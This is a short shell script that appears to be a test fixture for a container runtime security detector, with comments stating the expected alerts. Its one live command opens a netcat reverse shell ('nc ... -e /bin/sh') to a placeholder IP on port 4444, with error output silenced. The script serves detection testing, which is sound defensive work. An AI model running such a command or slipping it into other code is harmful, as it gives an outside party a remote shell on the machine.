#!/bin/sh
# A netcat reverse shell (nc -e): flagged when it runs; under --network none it never connects.
# selftest: expect: Netcat Remote Code Execution in Container = allowed
# selftest: expect: Outbound connection @ 198.51.100.9:4444 = blocked
exec 2>/dev/null
nc -w 2 198.51.100.9 4444 -e /bin/sh
true
